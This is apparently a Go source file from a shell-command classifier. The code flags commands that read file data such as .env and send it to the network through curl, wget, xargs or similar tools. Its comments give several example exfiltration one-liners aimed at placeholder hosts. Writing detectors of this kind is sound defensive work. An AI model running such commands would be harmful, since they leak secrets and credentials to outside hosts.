package classify

import (
	"github.com/airlock-dev/airlock/internal/firstuse"
	"regexp"
	"strings"

	"mvdan.cc/sh/v3/syntax"

	"github.com/airlock-dev/airlock/internal/shell"
)

// This file closes FINDINGS-5 L10: a file's content carried into a
// request through the shell. Value flow (package shell) substitutes what
// a variable was built from when it knows it (d=$(cat .env); curl …/$d
// becomes a URL built from command output, held by exfiltration), but a
// value the shell reads at run time has no text to substitute:
//
//	read -r d < .env; curl "http://h/?q=$d"
//	mapfile -t a < .env; curl "http://h/${a[0]}"
//	printf -v d %s "$(cat .env)"; curl http://h/$d
//	d=$(base64 -w0 .env); curl "http://h/${d:0:30}"  (an operator keeps $d's own text)
//	while read l; do curl "http://h/$l"; done < .env
//	xargs -a .env -I{} curl http://h/{}
//
// The rule, over the whole command: a variable the command fills at run
// time from input or command output (read, mapfile/readarray, printf -v,
// NAME=$(…), for NAME in $(…)) or a word xargs fills from its input is
// "carried data". A network request of the same command (a run rated a
// network read) that puts carried data into a URL beside static text (its
// path, query or a name under a domain), or into a header, cookie, user
// agent, referer, credentials or body option, sends that data out: it is
// external. A word that is nothing but the carried value (curl "$url",
// xargs -a urls.txt wget, dig "$name") is a list of addresses being
// fetched, as wget -i is, and stays a read; so do static values, which
// value flow has already substituted (VERSION=1.2; curl …/v$VERSION/…),
// and variables the command does not fill ($PORT from the environment).

// carriedAssign matches an assignment whose value is a command
// substitution (NAME=$(…), NAME="`…`", export NAME=$(…)).
var carriedAssign = firstuse.Table[*regexp.Regexp]{Build: func() *regexp.Regexp {
	return regexp.MustCompile("(?:^|[\\s;&|(])([A-Za-z_][A-Za-z0-9_]*)(?:\\[[^\\]]*\\])?\\+?=\"?(?:\\$\\(|`)")
}}

// carriedFor matches a for loop over words holding a command substitution.
var carriedFor = firstuse.Table[*regexp.Regexp]{Build: func() *regexp.Regexp {
	return regexp.MustCompile("(?:^|[\\s;&|(])for\\s+([A-Za-z_][A-Za-z0-9_]*)\\s+in\\s[^;\\n]*(?:\\$\\(|`)")
}}

// carriedOptions are the request options whose whole value is sent
// (curl's, wget's and the like): carried data there is sent even when it
// is the whole word.
func carriedOptions(name string) bool {
	switch name {
	case "-H", "--header", "--proxy-header", "-b", "--cookie", "-A", "--user-agent", "-e", "--referer",
		"-u", "--user", "-d", "--data", "--data-raw", "--data-binary", "--data-urlencode", "--data-ascii",
		"--json", "--url-query", "-F", "--form", "--form-string", "--post-data", "--body-data",
		"--oauth2-bearer", "--http-user", "--http-password", "--password":
		return true
	}
	return false
}

// xargsInput is the placeholder package shell puts where xargs adds the
// words it reads.
const xargsInput = "{xargs input}"

// parallelInput is what the shell package names a word parallel fills
// from its input or an argument file (:::: FILE).
const parallelInput = "{parallel input}"

// carried applies the rule above to a classified command: it turns each
// request that sends carried data into an external run, in place.
func carried(text string, r *Result) {
	var vars map[string]string // built at the first request with a run-time word
	changed := false
	for i := range r.Invocations {
		inv := &r.Invocations[i]
		if inv.Opaque != "" || inv.Effect.Tier == External || !inv.Effect.NetworkRead && !listFetcher(inv.Name()) {
			continue
		}
		if src, ok := builtList(text, r.Invocations, inv); ok {
			x := external("exfil.carried", inv.Name()+" fetches the addresses "+src+" builds from the data it reads, which carry that data to the network")
			inv.Effect.Add(x)
			inv.Effect.NetworkRead = false
			r.Effect.Add(x)
			changed = true
			continue
		}
		if !inv.AnyDynamic(1) || !inv.Effect.NetworkRead {
			continue
		}
		if vars == nil {
			vars = carriedVars(text, r.Invocations)
		}
		for j := 1; j < len(inv.Args); j++ {
			if !inv.IsDynamic(j) || localFileValue(inv.Args, j) {
				continue
			}
			src, ok := carriedIn(inv.Args, j, vars, inv.Feed != nil)
			if !ok && (remoteQuery(inv) || hostPathSubst(inv.Args[j])) && (strings.Contains(inv.Args[j], "$(") || strings.Contains(inv.Args[j], "`")) {
				src, ok = "command output", true
			}
			if !ok {
				continue
			}
			x := external("exfil.carried", inv.Name()+" sends "+clip(inv.Args[j])+", which holds "+src+", to the network")
			inv.Effect.Add(x)
			inv.Effect.NetworkRead = false
			r.Effect.Add(x)
			changed = true
			break
		}
	}
	if changed {
		r.Effect.NetworkRead = false
		for _, inv := range r.Invocations {
			r.Effect.NetworkRead = r.Effect.NetworkRead || inv.Effect.NetworkRead
		}
	}
}

// remoteQuery reports whether a run reads from a database on another
// machine (psql -h db.example -c "select …"): every word of its
// statement reaches that machine, so one built from command output
// carries it there (FINDINGS-5 L12).
func remoteQuery(inv *Invocation) bool {
	for _, r := range inv.Effect.Reasons {
		if r.Rule == "sql.remote-read" {
			return true
		}
	}
	return false
}

// hostPathSubst reports whether a word is an address without a scheme
// (192.0.2.2/x, example.com/mod) whose path holds a command substitution:
// go get 192.0.2.2/$(xxd -p .env) asks that server for the path.
func hostPathSubst(w string) bool {
	w = strings.Trim(w, `"'`)
	i := strings.IndexAny(w, "$`")
	slash := strings.IndexByte(w, '/')
	if i < 0 || slash <= 0 || slash > i {
		return false
	}
	host := w[:slash]
	return strings.Contains(host, ".") && !strings.ContainsAny(host, " =:@")
}

// carriedVars returns the variables the command fills at run time, each
// with what it holds, for the reason.
func carriedVars(text string, runs []Invocation) map[string]string {
	vars := map[string]string{}
	for _, m := range carriedAssign.Get().FindAllStringSubmatch(text, -1) {
		vars[m[1]] = "command output ($" + m[1] + ")"
	}
	for _, m := range carriedFor.Get().FindAllStringSubmatch(text, -1) {
		vars[m[1]] = "command output ($" + m[1] + ")"
	}
	for k := range runs {
		inv := &runs[k]
		if inv.Opaque != "" {
			continue
		}
		switch inv.Name() {
		case "read", "mapfile", "readarray":
			if inv.Stdin == "heredoc" || inv.Stdin == "herestring" {
				continue // value flow reads these
			}
			src := "what " + inv.Name() + " reads"
			if f := carriedInput(runs, k); f != "" {
				src = "the content of " + f
			}
			for _, n := range readNames(inv.Args) {
				vars[n] = src + " ($" + n + ")"
			}
		case "set":
			// set -- $(cat .env): the positional parameters hold it.
			if len(inv.Args) > 2 && inv.Args[1] == "--" && inv.AnyDynamic(2) {
				for _, n := range []string{"1", "2", "3", "4", "5", "6", "7", "8", "9", "@", "*"} {
					vars[n] = "run-time text ($" + n + ", set --)"
				}
			}
		case "printf":
			if len(inv.Args) > 2 && inv.Args[1] == "-v" && inv.AnyDynamic(3) {
				vars[inv.Args[2]] = "run-time text ($" + inv.Args[2] + ", printf -v)"
			}
		}
	}
	return vars
}

// carriedInput names the file a read or mapfile run reads, when a
// redirection gives it: its own (read d < f) or that of the loop or group
// around it (while read l; do …; done < f).
func carriedInput(runs []Invocation, k int) string {
	for _, rd := range runs[k].Redirects {
		if rd.Op == "<" || rd.Op == "<>" {
			return rd.Target
		}
	}
	for g := k - 1; g >= 0; g-- {
		if !runs[g].Group && runs[g].Name() != ":" || !strings.Contains(runs[g].Source, runs[k].Source) {
			continue
		}
		for _, rd := range runs[g].Redirects {
			if rd.Op == "<" || rd.Op == "<>" {
				return rd.Target
			}
		}
	}
	return ""
}

// readNames returns the variables a read, mapfile or readarray run
// assigns: read's names (REPLY by default) and -a ARRAY, mapfile's array
// (MAPFILE by default).
func readNames(args []string) []string {
	var names []string
	withValue := "adinNptu"
	if args[0] != "read" {
		withValue = "dnOsuCc"
	}
	for i := 1; i < len(args); i++ {
		a := args[i]
		if len(a) > 1 && a[0] == '-' && len(names) == 0 {
			if a == "--" {
				names = append(names, args[i+1:]...)
				break
			}
			for j := 1; j < len(a); j++ {
				if strings.IndexByte(withValue, a[j]) < 0 {
					continue
				}
				val := a[j+1:]
				if val == "" && i+1 < len(args) {
					i++
					val = args[i]
				}
				if args[0] == "read" && a[j] == 'a' {
					names = append(names, val)
				}
				break
			}
			continue
		}
		names = append(names, a)
	}
	if len(names) == 0 {
		if args[0] == "read" {
			return []string{"REPLY"}
		}
		return []string{"MAPFILE"}
	}
	return names
}

// carriedIn reports whether word j of a request holds carried data where
// it is sent, and names it.
func carriedIn(args []string, j int, vars map[string]string, fed bool) (string, bool) {
	w := args[j]
	option := j > 1 && carriedOptions(args[j-1])
	if name, _, ok := strings.Cut(w, "="); ok && carriedOptions(name) {
		option = true
	}
	for _, in := range []string{xargsInput, parallelInput} {
		if (fed || in == parallelInput) && strings.Contains(w, in) {
			if option || strings.Trim(w, `"'`) != in {
				return "what " + strings.Fields(strings.Trim(in, "{}"))[0] + " reads", true
			}
		}
	}
	for name, src := range vars {
		at, end, ok := varRef(w, name)
		if !ok {
			continue
		}
		if option || strings.Trim(w[:at], `"'`) != "" || strings.Trim(w[end:], `"'`) != "" {
			return src, true
		}
	}
	return "", false
}

// varRef finds a reference to variable name in a word's source text ($n,
// ${n}, ${n[0]}, ${n:0:30}, ${#n}) and returns where it starts and ends.
func varRef(w, name string) (int, int, bool) {
	for i := 0; i < len(w); i++ {
		if w[i] != '$' {
			continue
		}
		j := i + 1
		braced := j < len(w) && w[j] == '{'
		if braced {
			j++
			if j < len(w) && (w[j] == '#' || w[j] == '!') {
				j++
			}
		}
		if !strings.HasPrefix(w[j:], name) {
			continue
		}
		k := j + len(name)
		if k < len(w) && (w[k] == '_' || w[k] >= 'a' && w[k] <= 'z' || w[k] >= 'A' && w[k] <= 'Z' || w[k] >= '0' && w[k] <= '9') {
			continue
		}
		if braced {
			close := strings.IndexByte(w[k:], '}')
			if close < 0 {
				continue
			}
			k += close + 1
		}
		return i, k, true
	}
	return 0, 0, false
}

// A list of addresses a request reads whole (xargs curl, wget -i -, wget
// -i FILE, curl -K -) is a list being fetched, unless the same command
// builds it: a program that joins a URL's text to the data it reads (sed
// 's#^#http://h/#' .env | xargs curl, awk '{print "http://h/"$0}' .env >
// u.txt; wget -i u.txt) sends that data in the addresses, as xargs -I{}
// curl http://h/{} < .env does (FINDINGS-6 F9). A list of URLs selected
// whole from a file (grep -o 'https://…' README.md | xargs curl -I) or
// written literally (echo https://a | xargs curl) is not built.

// listFetcher reports whether a program fetches the addresses of a list
// it is given (-i FILE, -i -) even when its command line names none.
func listFetcher(name string) bool {
	switch name {
	case "wget", "wget2", "aria2c", "curl":
		return true
	}
	return false
}

// builtList reports whether a request reads its addresses whole from a
// list the command builds, and names the program that builds it.
func builtList(text string, runs []Invocation, inv *Invocation) (string, bool) {
	fromPipe, file := false, ""
	if inv.Feed != nil {
		for j := 1; j < len(inv.Args); j++ {
			if strings.Trim(inv.Args[j], `"'`) == xargsInput || strings.Trim(inv.Args[j], `"'`) == parallelInput {
				fromPipe, file = inv.Feed.File == "", inv.Feed.File
			}
		}
	}
	for j := 1; j < len(inv.Args); j++ {
		a := inv.Args[j]
		var v string
		switch {
		case (a == "-i" || a == "--input-file" || a == "-K" || a == "--config") && j+1 < len(inv.Args):
			v = inv.Args[j+1]
		case strings.HasPrefix(a, "--input-file=") || strings.HasPrefix(a, "--config="):
			_, v, _ = strings.Cut(a, "=")
		case strings.HasPrefix(a, "-i") && len(a) > 2 && !strings.HasPrefix(a, "--"):
			v = a[2:]
		default:
			continue
		}
		if v == "-" || v == "/dev/stdin" {
			fromPipe = true
			for _, rd := range inv.Redirects {
				if rd.Op == "<" && !rd.Dynamic {
					fromPipe, file = false, rd.Target
				}
			}
		} else {
			file = v
		}
	}
	if fromPipe {
		if left, ok := pipeLeft(text, inv.Source); ok {
			return builds(left)
		}
		return "", false
	}
	if file == "" {
		// A whole word that is a variable read or mapfile fills (sed
		// … .env | while read u; do curl "$u"; done): their input.
		for j := 1; j < len(inv.Args); j++ {
			if !inv.IsDynamic(j) {
				continue
			}
			for k := range runs {
				switch runs[k].Name() {
				case "read", "mapfile", "readarray":
				default:
					continue
				}
				for _, n := range readNames(runs[k].Args) {
					if _, _, ok := varRef(inv.Args[j], n); !ok {
						continue
					}
					if f := carriedInput(runs, k); f != "" {
						if by, ok := writtenList(text, runs, f); ok {
							return by, true
						}
					} else if left, ok := pipeLeft(text, runs[k].Source); ok {
						if by, ok := builds(left); ok {
							return by, true
						}
					}
				}
			}
		}
		return "", false
	}
	return writtenList(text, runs, file)
}

// writtenList reports whether a list file is written by the command with
// addresses it builds.
func writtenList(text string, runs []Invocation, file string) (string, bool) {
	for k := range runs {
		w := &runs[k]
		writes := w.Name() == "tee" && hasAny(w.Args[1:], file)
		for _, rd := range w.Redirects {
			writes = writes || rd.Writes() && rd.Target == file
		}
		if !writes {
			continue
		}
		src := w.Source
		if left, ok := pipeLeft(text, w.Source); ok && w.Name() == "tee" {
			src = left
		}
		if by, ok := builds(src); ok {
			return by, true
		}
	}
	return "", false
}

// builds reports whether shell text has a program that joins a URL's
// text to data it reads: sed, awk, perl and the like with "://" in their
// program, printf with "://" in its format and a word known only at run
// time, echo of such a word, or any of them fed by xargs.
func builds(text string) (string, bool) {
	if !strings.Contains(text, "://") {
		return "", false
	}
	for _, r := range shell.Parse(text) {
		if r.Opaque != "" {
			continue
		}
		src := strings.Join(r.Args, " ")
		if !strings.Contains(src, "://") {
			continue
		}
		switch r.Name() {
		case "sed", "gsed", "awk", "gawk", "mawk", "nawk", "perl", "ruby", "python", "python3", "node", "jq", "yq", "paste", "m4", "envsubst":
			return "`" + clip(r.Source) + "`", true
		case "echo", "printf":
			if r.AnyDynamic(1) || len(r.Via) > 0 {
				return "`" + clip(r.Source) + "`", true
			}
		}
	}
	return "", false
}

// pipeLeft returns the text of what pipes into the simple command src in
// shell text (a | b | xargs curl: "a | b"), when it is found there.
func pipeLeft(text, src string) (string, bool) {
	if text == "" || src == "" || !strings.Contains(text, "|") {
		return "", false
	}
	f, err := syntax.NewParser(syntax.Variant(syntax.LangBash)).Parse(strings.NewReader(text), "")
	if err != nil {
		return "", false
	}
	slice := func(n syntax.Node) string {
		a, b := int(n.Pos().Offset()), int(n.End().Offset())
		if a < 0 || b > len(text) || a > b {
			return ""
		}
		return text[a:b]
	}
	left, found := "", false
	syntax.Walk(f, func(n syntax.Node) bool {
		if b, ok := n.(*syntax.BinaryCmd); ok && (b.Op == syntax.Pipe || b.Op == syntax.PipeAll) {
			if strings.Contains(slice(b.Y), src) {
				left, found = slice(b.X), true
			}
		}
		return true
	})
	return left, found
}
